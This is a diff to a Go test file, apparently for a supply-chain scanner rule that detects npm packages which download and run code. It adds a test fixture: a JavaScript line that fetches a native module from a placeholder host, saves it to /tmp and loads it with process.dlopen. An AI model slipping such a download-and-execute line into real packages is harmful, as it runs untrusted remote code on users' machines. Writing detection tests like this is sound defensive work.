@@ -19,6 +19,8 @@ execFileSync(binPath, ["--version"])`
 func TestDownloadExecute(t *testing.T) {
 	rt.Check(t, DownloadExecute{}, []rt.Case{
 		{"raw_ip_temp_exe", map[string]string{"postinstall.js": dropper}, finding.SeverityCritical},
+		{"native_module_loaded", map[string]string{"index.js": `const https = require("https"), fs = require("fs");
+https.get("https://dl.example.invalid/a.node", r => r.pipe(fs.createWriteStream("/tmp/a.node")).on("finish", () => process.dlopen({ exports: {} }, "/tmp/a.node")))`}, finding.SeverityCritical},
 		{"registry_binary", map[string]string{"install.js": binaryInstaller, "package.json": rt.Pkg(`"scripts":{"postinstall":"node install.js"}`)}, finding.SeverityLow},
 		// The same installer fetching from a host that is not the project's
 		// registry (nor a well-known download host) is not trusted.
